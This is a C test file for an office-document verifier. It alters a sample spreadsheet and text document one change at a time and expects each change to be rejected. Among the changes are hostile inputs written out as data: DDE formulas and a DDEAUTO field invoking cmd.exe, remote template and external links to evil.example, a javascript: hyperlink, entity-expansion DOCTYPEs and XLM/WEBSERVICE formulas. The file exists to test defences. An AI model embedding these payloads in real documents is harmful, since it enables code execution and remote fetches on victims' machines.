/* SPDX-License-Identifier: Apache-2.0
 *
 * Samples of section O: a workbook of the profile, and one change for each thing that must be
 * refused: what breaks its form, and what a filter that lies would leave in it.
 */
#include "office-sample.h"
#include "verify-samples.h"

#define TYPES        "[Content_Types].xml"
#define TOP          "_rels/.rels"
#define BOOK         "xl/workbook.xml"
#define BOOK_RELS    "xl/_rels/workbook.xml.rels"
#define SHEET        "xl/worksheets/sheet1.xml"
#define SHEET_RELS   "xl/worksheets/_rels/sheet1.xml.rels"
#define STYLES       "xl/styles.xml"
#define STRINGS      "xl/sharedStrings.xml"
#define DRAWING      "xl/drawings/drawing1.xml"
#define DRAWING_RELS "xl/drawings/_rels/drawing1.xml.rels"
#define CORE         "docProps/core.xml"
#define PICTURE      "xl/media/image1.png"

static void
expect_office (Office *o, const char *clause, const char *what)
{
    Buf b = office_packed (o);

    expect (MUGAI_GRAMMAR_XLSX, b.data, b.size, clause, what);
    buf_clear (&b);
    office_clear (o);
}

/* Texts that are replaced once. */
static const struct {
    const char *clause, *what, *member, *from, *to;
} change[] = {
    /* still in the profile */
    { NULL, "another number", SHEET, "<s:v>3</s:v>", "<s:v>4.5E+3</s:v>" },
    { NULL, "no attribute", BOOK, " activeTab=\"0\"", "" },
    { NULL, "children of one rank", STYLES, "<s:sz val=\"11\"/><s:b/>",
      "<s:b/><s:sz val=\"11\"/>" },
    /* content types */
    { "O-4", "a macro's content type", TYPES, "spreadsheetml.sheet.main+xml", "x" },
    { "O-4", "a default", TYPES, "</Types>",
      "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>" },
    { "O-4", "white space", TYPES, "<Types ", "<Types  " },
    { "O-4", "something behind", TYPES, "</Types>", "</Types>\n" },
    /* relations */
    { "O-5", "outside target", SHEET_RELS, "Target=\"../drawings/drawing1.xml\"",
      "Target=\"http://evil.example/a\" TargetMode=\"External\"" },
    { "O-5", "attached template", BOOK_RELS, OFFICE_REL "/styles", OFFICE_REL "/attachedTemplate" },
    { "O-5", "OLE object", SHEET_RELS, OFFICE_REL "/drawing", OFFICE_REL "/oleObject" },
    { "O-5", "macro part", BOOK_RELS, OFFICE_REL "/styles\" Target=\"styles.xml",
      "http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
      "Target=\"vbaProject.bin" },
    { "O-5", "script hyperlink", SHEET_RELS, "</Relationships>",
      "<Relationship Id=\"rId2\" Type=\"" OFFICE_REL "/hyperlink\" "
      "Target=\"javascript:alert(1)\" TargetMode=\"External\"/></Relationships>" },
    { "O-5", "an id twice", BOOK_RELS, "rId2", "rId1" },
    { "O-5", "ids out of order", BOOK_RELS, "rId2", "rId11" },
    { "O-5", "id with a zero", BOOK_RELS, "rId2", "rId02" },
    { "O-5", "another id", BOOK_RELS, "rId2", "x2" },
    { "O-5", "a comment", BOOK_RELS, "</Relationships>", "<!-- --></Relationships>" },
    { "O-6", "XLM sheet as a sheet", BOOK_RELS, "worksheets/sheet1.xml", "macrosheets/sheet1.xml" },
    { "O-6", "absolute target", BOOK_RELS, "\"styles.xml", "\"/xl/styles.xml" },
    { "O-6", "a way up and down again", BOOK_RELS, "\"styles.xml", "\"../xl/styles.xml" },
    { "O-6", "relation from a part that may not have it", DRAWING_RELS, OFFICE_REL "/image",
      OFFICE_REL "/styles" },
    { "O-6", "main part of another kind", TOP, "\"xl/workbook.xml", "\"xl/document.xml" },
    { "O-6", "no main part", TOP,
      OFFICE_RELATION ("rId1", OFFICE_REL "/officeDocument", "xl/workbook.xml"), "" },
    { "O-3", "number of a picture", DRAWING_RELS, "image1", "image2" },
    { "O-3", "another picture", DRAWING_RELS, "image1.png", "image1.emf" },
    { "O-2", "picture of another type", DRAWING_RELS, "image1.png", "image1.jpeg" },
    { "O-6", "number of a sheet", BOOK_RELS, "sheet1", "sheet2" },
    /* form of XML */
    { "O-8", "no first line", SHEET, OFFICE_XML, "" },
    { "O-8", "another encoding", SHEET, "UTF-8", "UTF-7" },
    { "O-8", "document type", SHEET, OFFICE_XML, OFFICE_XML "<!DOCTYPE a []>" },
    { "O-8", "bomb of entities", SHEET, OFFICE_XML,
      OFFICE_XML "<!DOCTYPE a [<!ENTITY b \"bb\"><!ENTITY c \"&b;&b;\">]>" },
    { "O-8", "comment", SHEET, "<s:sheetData>", "<!-- --><s:sheetData>" },
    { "O-8", "instruction", SHEET, "<s:sheetData>", "<?a b?><s:sheetData>" },
    { "O-8", "CDATA", SHEET, "<s:v>3</s:v>", "<s:v><![CDATA[3]]></s:v>" },
    { "O-8", "entity", CORE, "&amp;", "&apos;" },
    { "O-8", "reference by number", CORE, "&amp;", "&#38;" },
    { "O-8", "unknown entity", CORE, "&amp;", "&evil;" },
    { "O-8", "CR LF", STRINGS, "\n</s:t>", "\r\n</s:t>" },
    { "O-8", "white space in a tag", SHEET, "<s:c r=\"B1\">", "<s:c  r=\"B1\">" },
    { "O-8", "white space at the end of a tag", SHEET, "<s:c r=\"B1\">", "<s:c r=\"B1\" >" },
    { "O-8", "other quotes", SHEET, "r=\"B1\"", "r='B1'" },
    { "O-8", "an empty element in two tags", DRAWING, "<xdr:clientData/>",
      "<xdr:clientData></xdr:clientData>" },
    { "O-8", "not well-formed", SHEET, "</s:row>", "</s:r>" },
    { "O-8", "not closed", SHEET, "</s:worksheet>", "" },
    { "O-8", "something behind the root", SHEET, "</s:worksheet>", "</s:worksheet>\n" },
    { "O-8", "a second root", SHEET, "</s:worksheet>", "</s:worksheet><a/>" },
    { "O-8", "byte order mark", SHEET, OFFICE_XML, "\xef\xbb\xbf" OFFICE_XML },
    { "O-8", "not UTF-8", STRINGS, "項目", "\x8d\x80" },
    { "O-8", "a bare greater sign", SHEET, "&gt;", ">" },
    { "O-8", "a line feed in an attribute", STYLES, "&#10;", "\n" },
    /* namespaces */
    { "O-9", "another prefix", CORE, "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"",
      "xmlns:dc=\"http://purl.org/dc/terms/\"" },
    { "O-9", "namespace that the model lacks", SHEET, "<s:worksheet ",
      "<s:worksheet xmlns:evil=\"urn:evil\" " },
    { "O-9", "order of namespaces", CORE,
      "xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
      "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"",
      "xmlns:dc=\"http://purl.org/dc/elements/1.1/\" "
      "xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"" },
    { "O-9", "namespace that nothing uses", STRINGS, "<s:sst ",
      "<s:sst xmlns:r=\"" OFFICE_REL "\" " },
    { "O-9", "namespace that is missing", DRAWING,
      "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" ", "" },
    { "O-12", "namespace further in", SHEET, "<s:sheetData>",
      "<s:sheetData xmlns:r=\"" OFFICE_REL "\">" },
    { "O-12", "default namespace", SHEET, "<s:sheetData>", "<s:sheetData xmlns=\"urn:evil\">" },
    /* elements */
    { "O-11", "another root", STRINGS, "<s:sst ", "<s:si " },
    { "O-11", "OLE objects", SHEET, "<s:drawing ", "<s:oleObjects/><s:drawing " },
    { "O-11", "controls", SHEET, "<s:drawing ", "<s:controls/><s:drawing " },
    { "O-11", "DDE links", BOOK, "<s:definedNames>", "<s:externalReferences/><s:definedNames>" },
    { "O-11", "foreign element", SHEET, "<s:drawing ", "<evil/><s:drawing " },
    { "O-11", "order", SHEET, "<s:dimension ref=\"A1:B2\"/><s:sheetData>",
      "<s:sheetData/><s:dimension ref=\"A1:B2\"/><s:sheetData>" },
    { "O-11", "one too many", SHEET, "<s:dimension ref=\"A1:B2\"/>",
      "<s:dimension ref=\"A1:B2\"/><s:dimension ref=\"A1:B2\"/>" },
    { "O-11", "one too few", DRAWING, "<xdr:clientData/>", "" },
    { "O-11", "one of several", DRAWING, "<xdr:row>3</xdr:row>", "" },
    { "O-11", "text", SHEET, "<s:sheetData>", "<s:sheetData>x" },
    { "O-11", "white space", SHEET, "<s:sheetData>", "<s:sheetData> " },
    /* attributes */
    { "O-12", "macro of a shape", DRAWING, "<xdr:pic>", "<xdr:pic macro=\"[0]!evil\">" },
    { "O-12", "order of attributes", SHEET, "r=\"A1\" s=\"0\"", "s=\"0\" r=\"A1\"" },
    { "O-12", "a required one", BOOK, " sheetId=\"1\"", "" },
    { "O-12", "the last required one", BOOK, " r:id=\"rId1\"/></s:sheets>", "/></s:sheets>" },
    { "O-12", "unknown one at the end", SHEET, "t=\"s\"", "t=\"s\" onclick=\"x\"" },
    { "O-8", "attribute twice", SHEET, "s=\"0\"", "s=\"0\" s=\"0\"" },
    /* values */
    { "O-13", "a word", SHEET, "t=\"s\"", "t=\"x\"" },
    { "O-13", "a longer word", SHEET, "t=\"s\"", "t=\"strx\"" },
    { "O-13", "bool", BOOK, "date1904=\"0\"", "date1904=\"false\"" },
    { "O-13", "a number with a zero", BOOK, "sheetId=\"1\"", "sheetId=\"01\"" },
    { "O-13", "a number too large", BOOK, "sheetId=\"1\"", "sheetId=\"65535\"" },
    { "O-13", "a number too small", BOOK, "sheetId=\"1\"", "sheetId=\"0\"" },
    { "O-13", "no number", DRAWING, "<xdr:row>3", "<xdr:row>x" },
    { "O-13", "an element without text", DRAWING, "<xdr:row>3</xdr:row>", "<xdr:row/>" },
    { "O-13", "a cell that is none", SHEET, "r=\"A1\"", "r=\"A0\"" },
    { "O-13", "a cell far out", SHEET, "r=\"A1\"", "r=\"XFE1\"" },
    { "O-13", "a range", SHEET, "ref=\"A1:B2\"", "ref=\"A1:B2:C3\"" },
    { "O-13", "a decimal", STYLES, "<s:sz val=\"11\"/>", "<s:sz val=\"1.\"/>" },
    { "O-14", "direction of writing", STRINGS, "項目", "\xe2\x80\xae項目" },
    { "O-14", "invisible", STRINGS, "項目", "項\xe2\x80\x8b目" },
    { "O-14", "a plane of private use", STRINGS, "項目", "\xf3\xb0\x80\x80" },
    /* references */
    { "O-15", "id of no relation", SHEET, "r:id=\"rId1\"", "r:id=\"rId2\"" },
    { "O-15", "another form of an id", SHEET, "r:id=\"rId1\"", "r:id=\"r1\"" },
    { "O-15", "relation of another type", BOOK, "r:id=\"rId1\"/></s:sheets>",
      "r:id=\"rId2\"/></s:sheets>" },
    { "O-15", "relation that nothing uses", DRAWING_RELS, "</Relationships>",
      OFFICE_RELATION ("rId2", OFFICE_REL "/image", "../media/image1.png") "</Relationships>" },
    { "O-16", "style that is not there", SHEET, "s=\"0\"", "s=\"1\"" },
    { "O-16", "font that is not there", STYLES, "<s:xf fontId=\"0\" fillId",
      "<s:xf fontId=\"1\" fillId" },
    { "O-16", "sheet that is not there", BOOK, "activeTab=\"0\"", "activeTab=\"1\"" },
    /* cells */
    { "O-19", "cells in another order", SHEET, "r=\"A1\"", "r=\"C1\"" },
    { "O-19", "a cell of another row", SHEET, "r=\"B1\"", "r=\"B2\"" },
    { "O-19", "rows in another order", SHEET, "</s:sheetData>", "<s:row r=\"1\"/></s:sheetData>" },
    { "O-19", "a cell in the row of another", SHEET, "</s:row>",
      "</s:row><s:row><s:c r=\"C1\"/></s:row>" },
    { NULL, "a row without its number", SHEET, "</s:row>",
      "</s:row><s:row><s:c r=\"C2\"/><s:c/></s:row>" },
    { "O-19", "a number that is none", SHEET, "<s:v>3</s:v>", "<s:v>x</s:v>" },
    { "O-19", "an index that is none", SHEET, "<s:v>0</s:v>", "<s:v>-1</s:v>" },
    { "O-16", "a string that is not there", SHEET, "<s:v>0</s:v>", "<s:v>1</s:v>" },
    { "O-19", "true or false", SHEET, "r=\"B1\"", "r=\"B1\" t=\"b\"" },
    /* formulas */
    { "O-17", "DDE", SHEET, "SUM('予算'!$A$1:A2, \"a\"\"b\")", "cmd|'/c calc'!A0" },
    { "O-17", "DDE in quotes", SHEET, "SUM('予算'!", "SUM('cmd|x'!" },
    { "O-17", "another workbook", SHEET, "'予算'!", "[1]予算!" },
    { "O-17", "another workbook in quotes", SHEET, "'予算'!", "'[1]予算'!" },
    { "O-17", "a function that fetches", SHEET, "SUM(", "WEBSERVICE(" },
    { "O-17", "a function of XLM", SHEET, "SUM(", "_xlfn.CALL(" },
    { "O-17", "a link", SHEET, "SUM(", "hyperlink(" },
    { "O-17", "brackets", SHEET, "b\")", "b\"" },
    { "O-17", "a name that starts something", BOOK, "予算!$A$1:$A$2", "EXEC(\"calc\")" },
};

static void
test_changes (void)
{
    for (size_t i = 0; i < LENGTH (change); i++) {
        Office o = office_sample();
        office_change (&o, change[i].member, change[i].from, change[i].to);
        expect_office (&o, change[i].clause, change[i].what);
    }
}

#define DOCUMENT "word/document.xml"

static const struct {
    const char *clause, *what, *member, *from, *to;
} document_change[] = {
    { NULL, "another field", DOCUMENT, "REF b \\h ", "TOC \\o \"1-3\"" },
    { "O-16", "bookmark twice", DOCUMENT, "<w:bookmarkEnd ",
      "<w:bookmarkStart w:id=\"1\" w:name=\"b\"/><w:bookmarkEnd " },
    { "O-16", "style that is not there", DOCUMENT, "<w:pStyle w:val=\"a\"/>",
      "<w:pStyle w:val=\"A\"/>" },
    { "O-18", "DDE", DOCUMENT, "REF b", "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe" },
    { "O-18", "a picture from elsewhere", DOCUMENT, "REF b", "INCLUDEPICTURE \"http://a\"" },
    { "O-18", "in small letters", DOCUMENT, "REF b", "ref b" },
    { "O-18", "a link", DOCUMENT, " PAGE ", " HYPERLINK " },
    { "O-18", "a longer word", DOCUMENT, " PAGE ", " PAGEX " },
    { "O-20", "an instruction in pieces", DOCUMENT, "<w:fldChar w:fldCharType=\"separate\"/>",
      "<w:instrText> DATE </w:instrText><w:fldChar w:fldCharType=\"separate\"/>" },
    { "O-20", "an instruction in what is shown", DOCUMENT, "<w:t>1</w:t>",
      "<w:instrText> DATE </w:instrText>" },
    { "O-20", "an instruction outside of fields", DOCUMENT, "<w:t>2</w:t>",
      "<w:instrText> DATE </w:instrText>" },
    { "O-20", "no end", DOCUMENT, "<w:t>2</w:t>", "<w:fldChar w:fldCharType=\"begin\"/>" },
    { "O-20", "no begin", DOCUMENT, "<w:t>2</w:t>", "<w:fldChar w:fldCharType=\"end\"/>" },
    { "O-11", "embedded object", DOCUMENT, "<w:t>2</w:t>", "<w:object/>" },
    { "O-11", "old picture", DOCUMENT, "<w:t>2</w:t>", "<w:pict/>" },
    { "O-11", "chunk of another format", DOCUMENT, "<w:sectPr>",
      "<w:altChunk r:id=\"rId2\"/><w:sectPr>" },
    { "O-11", "sub-document", DOCUMENT, "<w:sectPr>", "<w:subDoc r:id=\"rId2\"/><w:sectPr>" },
    { "O-12", "link to elsewhere", DOCUMENT, "<w:fldSimple w:instr=\" PAGE \">",
      "<w:hyperlink r:id=\"rId2\">" },
    { "O-5", "remote template", "word/_rels/document.xml.rels",
      OFFICE_REL "/styles\" Target=\"styles.xml",
      OFFICE_REL "/attachedTemplate\" Target=\"http://evil.example/a.dotm" },
};

static void
test_document (void)
{
    for (size_t i = 0; i <= LENGTH (document_change); i++) {
        Office o = office_of (office_document, LENGTH (office_document));
        if (i > 0)
            office_change (&o, document_change[i - 1].member, document_change[i - 1].from,
                           document_change[i - 1].to);
        Buf b = office_packed (&o);
        expect (MUGAI_GRAMMAR_DOCX, b.data, b.size, i > 0 ? document_change[i - 1].clause : NULL,
                i > 0 ? document_change[i - 1].what : "text document");
        buf_clear (&b);
        office_clear (&o);
    }
}

static void
test_members (void)
{
    Office o = office_sample();

    office_add (&o, o.n, "xl/vbaProject.bin", "x", 1);
    expect_office (&o, "O-2", "a macro part that nothing leads to");
    o = office_sample();
    office_add (&o, 2, "xl/vbaProject.bin", "x", 1);
    expect_office (&o, "O-2", "a macro part in between");
    o = office_sample();
    office_add (&o, 5, "docProps/_rels/core.xml.rels", OFFICE_RELATIONS (""),
                strlen (OFFICE_RELATIONS ("")));
    expect_office (&o, "O-5", "relations without one");
    o = office_sample();
    office_add (&o, o.n, CORE, "x", 1);
    expect_office (&o, "Z-5", "a member twice");
    o = office_sample();
    office_add (&o, o.n, "XL/Workbook.xml", "x", 1);
    expect_office (&o, "Z-5", "a member twice, but for the case");
    for (size_t i = 0; i < LENGTH (office_workbook) + 1; i++) {
        o = office_sample();
        char name[64];
        snprintf (name, sizeof name, "without %s", o.member[i].name);
        office_drop (&o, i);
        expect_office (&o, "O-2", name);
    }
    o = office_sample();
    OfficeMember first = o.member[7];
    o.member[7] = o.member[8];
    o.member[8] = first;
    expect_office (&o, "O-2", "two parts in another order");
    o = office_sample();
    buf_clear (&o.member[0].content);
    buf_add (&o.member[0].content, "", 0);
    expect_office (&o, "O-4", "no content types");
    o = office_sample();
    Buf *picture = &o.member[office_find (&o, PICTURE)].content;
    picture->data[0] = 'x';
    expect_office (&o, "P-1", "a picture that is none");
}

static void
test_depth (void)
{
    Office o = office_sample();
    Buf deep = { 0 };
    const char *group = "<xdr:grpSp><xdr:nvGrpSpPr><xdr:cNvPr id=\"1\" name=\"\"/><xdr:cNvGrpSpPr/>"
                        "</xdr:nvGrpSpPr><xdr:grpSpPr/>";

    for (unsigned i = 0; i < 198; i++)
        buf_text (&deep, group);
    for (unsigned i = 0; i < 198; i++)
        buf_text (&deep, "</xdr:grpSp>");
    const char *from = "<xdr:pic>";
    office_change (&o, DRAWING, from, (const char *)deep.data);
    expect_office (&o, "O-10", "groups in groups");
    buf_clear (&deep);
}

/* Is the byte at @at of a part within the value of an attribute or a text, where another letter may
 * stand? A small reader of tags, not the verifier's. */
static bool
is_free (const OfficeMember *m, size_t at)
{
    const char *text = (const char *)m->content.data;
    bool tag = false, value = false, space = false;

    if (strstr (m->name, ".rels") != NULL) /* the number of an id that nothing names */
        return memcmp (text + at - 3, "rId", 3) == 0 || memcmp (text + at - 4, "rId", 3) == 0;
    if (strcmp (m->name, TYPES) == 0)
        return false;
    for (size_t i = strlen (OFFICE_XML); i <= at; i++) {
        if (!value && (text[i] == '<' || text[i] == '>')) {
            tag = text[i] == '<';
            if (i == at)
                return false;
        } else if (tag && text[i] == '"') {
            value = !value;
            space = value && memmem (text + i - 12, 12, "xmlns:", 6) != NULL;
            if (i == at)
                return false;
        }
    }
    return at >= strlen (OFFICE_XML) && ((value && !space) || !tag);
}

/* Every byte of every part, turned into another one: what is accepted was a letter of a value. */
static void
test_bytes (void)
{
    Office o = office_sample();
    unsigned long accepted = 0, wrong = 0, tried = 0;

    for (size_t i = 0; i < o.n; i++)
        o.member[i].stored = true;
    for (size_t i = 0; i + 1 < o.n; i++) /* the picture has a test of its own */
        for (size_t at = 0; at < o.member[i].content.size; at++, tried++) {
            MugaiVerifyLimits limits = mugai_verify_limits_default();
            MugaiVerifyResult result;
            uint8_t *byte = &o.member[i].content.data[at], before = *byte;
            *byte ^= at % 3 == 0 ? 0x20 : at % 3 == 1 ? 1 : 0x80;
            Buf b = office_packed (&o);
            mugai_verify (MUGAI_GRAMMAR_XLSX, b.data, b.size, &limits, &result);
            *byte = before;
            accepted += result.verdict.ok;
            if (result.verdict.ok && !is_free (&o.member[i], at)) {
                wrong++;
                printf ("# byte %zu of %s\n", at, o.member[i].name);
            }
            mugai_verify_result_clear (&result);
            buf_clear (&b);
        }
    printf ("# %lu bytes turned, %lu accepted\n", tried, accepted);
    CHECK_NAMED (wrong == 0 && accepted > 0, "no byte of the form of a part can be turned");
    office_clear (&o);
}

static void
test_limits (void)
{
    Office o = office_sample();
    Buf b = office_packed (&o);
    MugaiVerifyLimits limits = mugai_verify_limits_default();

    limits.expanded = 1000;
    expect_with (MUGAI_GRAMMAR_XLSX, b.data, b.size, &limits, "Z-6", "limits.expanded");
    expect (MUGAI_GRAMMAR_DOCX, b.data, b.size, "O-6", "a workbook as a document");
    expect (MUGAI_GRAMMAR_PPTX, b.data, b.size, "O-6", "a workbook as slides");
    for (size_t size = 0; size < b.size; size += 7) {
        MugaiVerifyResult result;
        limits = mugai_verify_limits_default();
        mugai_verify (MUGAI_GRAMMAR_XLSX, b.data, size, &limits, &result);
        if (result.verdict.ok)
            CHECK_NAMED (false, "a workbook that was cut");
        mugai_verify_result_clear (&result);
    }
    buf_clear (&b);
    office_clear (&o);
}

void
test_office (void)
{
    Office o = office_sample();

    expect_office (&o, NULL, "workbook");
    test_changes();
    test_document();
    test_members();
    test_depth();
    test_bytes();
    test_limits();
}
